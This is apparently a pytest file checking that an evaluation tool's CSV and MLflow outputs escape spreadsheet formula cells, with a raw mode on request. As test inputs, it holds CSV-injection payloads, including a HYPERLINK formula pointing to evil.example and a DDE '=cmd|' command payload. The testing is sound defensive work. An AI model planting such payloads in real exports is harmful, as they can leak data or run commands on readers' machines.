"""CSV injection: text cells a spreadsheet would run as a formula are written with a leading `'`
(default, `--safe-csv`), raw with `--no-safe-csv`; numbers are never touched."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
import pytest

from extracteval.io.outputs import neutralise_cell, safe_csv_frame, write_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?x")', "+1", "@SUM(A1:A9)", "-2+3", "\tcmd", "\r=1"]


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        return [c for row in csv.reader(fh) for c in row]


def _assert_neutralised(cells: list[str], payloads: list[str]) -> None:
    for p in payloads:
        assert p not in cells, f"{p!r} written raw"
        assert "'" + p in cells, f"{p!r} not neutralised"


@pytest.mark.parametrize("payload", HOSTILE)
def test_formula_cells_get_a_quote(payload: str) -> None:
    assert neutralise_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["plain", "a=b", "", "'=already", 3, -1.5, float("-inf"), None, True])
def test_other_cells_are_untouched(value) -> None:
    assert neutralise_cell(value) is value


def test_frame_keeps_numbers_numeric(tmp_path: Path) -> None:
    frame = pd.DataFrame({"=name": ["-2+3", "ok"], "delta": [-0.25, 1.0], "n": [-3, 4], "mixed": ["@x", -7]})
    safe = safe_csv_frame(frame)
    assert list(safe.columns) == ["'=name", "delta", "n", "mixed"]
    assert safe["'=name"].tolist() == ["'-2+3", "ok"]
    assert safe["mixed"].tolist() == ["'@x", -7]  # a number among text stays a number
    assert frame["=name"].tolist() == ["-2+3", "ok"]  # the caller's frame is not changed
    write_csv(frame, tmp_path / "m.csv")
    back = pd.read_csv(tmp_path / "m.csv")
    assert back["delta"].tolist() == [-0.25, 1.0] and back["n"].tolist() == [-3, 4]
    assert back["delta"].dtype.kind == "f" and back["n"].dtype.kind == "i"
    write_csv(frame, tmp_path / "raw.csv", safe=False)
    assert pd.read_csv(tmp_path / "raw.csv").columns[0] == "=name"


def _hostile_tables(tmp_path: Path) -> tuple[Path, Path]:
    """A field named like a formula, label values like formulas (lower case: `labels` folds case)."""
    truth, pred = tmp_path / "truth.csv", tmp_path / "pred.csv"
    field = HOSTILE[0]
    rows_t = [["id", field, "kind"], ["R1", "a", "@sum(a1)"], ["R2", "b", "-2+3"], ["R3", "c", "x"]]
    rows_p = [["id", field, "kind"], ["R1", "a", "@sum(a1)"], ["R2", "z", "+1x"], ["R3", "c", "x"]]
    for path, rows in ((truth, rows_t), (pred, rows_p)):
        with path.open("w", newline="", encoding="utf-8") as fh:
            csv.writer(fh).writerows(rows)
    return truth, pred


@pytest.mark.parametrize("task,csv_name", [("fields", "field_metrics.csv"), ("labels", "feature_metrics.csv")])
def test_score_output_csv_is_neutralised_by_default_and_raw_on_request(cli, tmp_path: Path, task: str, csv_name: str) -> None:
    truth, pred = _hostile_tables(tmp_path)
    model = "@evil()"  # a name cannot start with "=" (NAME=FILE)
    argv = ["score", task, "--truth", str(truth), "--predictions", f"{model}={pred}"] + (["--no-ci"] if task == "fields" else [])
    r = cli(*argv, "--output", str(tmp_path / "safe"))
    assert r.code == 0, r.err
    payloads = [model, HOSTILE[0]] + (["@sum(a1)", "-2+3", "+1x"] if task == "labels" else [])
    _assert_neutralised(_cells(tmp_path / "safe" / csv_name), payloads)
    metrics = pd.read_csv(tmp_path / "safe" / csv_name)
    assert metrics["f1"].dtype.kind == "f"  # the metrics stay numbers
    # result.json is data, not a spreadsheet: names as they are
    assert model in json.loads((tmp_path / "safe" / "result.json").read_text(encoding="utf-8"))["ranking"]

    r = cli(*argv, "--output", str(tmp_path / "raw"), "--no-safe-csv")
    assert r.code == 0, r.err
    raw_cells = _cells(tmp_path / "raw" / csv_name)
    assert all(p in raw_cells for p in payloads)


def test_entities_output_csv_is_neutralised(cli, tmp_path: Path) -> None:
    rec = lambda d: {"id": "INV-1", "entities": [{"description": d, "=amount": "-5"}]}  # noqa: E731
    (tmp_path / "t.jsonl").write_text(json.dumps(rec("@SUM(A1)")) + "\n", encoding="utf-8")
    (tmp_path / "p.jsonl").write_text(json.dumps(rec("=cmd|' /C calc'!A0")) + "\n", encoding="utf-8")
    r = cli("score", "entities", "--truth", str(tmp_path / "t.jsonl"), "--predictions", f"+m={tmp_path / 'p.jsonl'}",
            "--output", str(tmp_path / "out"))
    assert r.code == 0, r.err
    cells = _cells(tmp_path / "out" / "feature_metrics.csv")
    _assert_neutralised(cells, ["+m", "=amount"])
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


def test_mlflow_bundle_csv_is_neutralised(tmp_path: Path) -> None:
    from extracteval.mlflow.bundle import write_bundle
    from extracteval.mlflow.adapters import get_adapter

    adapter = get_adapter("fields")
    field = HOSTILE[0]
    truth = [{field: "a"}, {field: "b"}]
    preds = {"@evil": [json.dumps({field: "a"}), json.dumps({field: "x"})], "-2+3": [json.dumps(t) for t in truth]}
    scored = adapter.score_frame(ids=["1", "2"], targets=truth, predictions=preds, config={"bootstrap": 0}, truth_source="t")
    for safe, folder in ((True, "safe"), (False, "raw")):
        bundle = write_bundle(scored, adapter, tmp_path / folder, experiment="e", figures=False, safe_csv=safe)
        csvs = sorted(bundle.path.rglob("*.csv"))
        assert csvs
        cells = [c for p in csvs for c in _cells(p)]
        for p in (field, "@evil", "-2+3"):
            assert (p not in cells and "'" + p in cells) if safe else (p in cells), (safe, p)
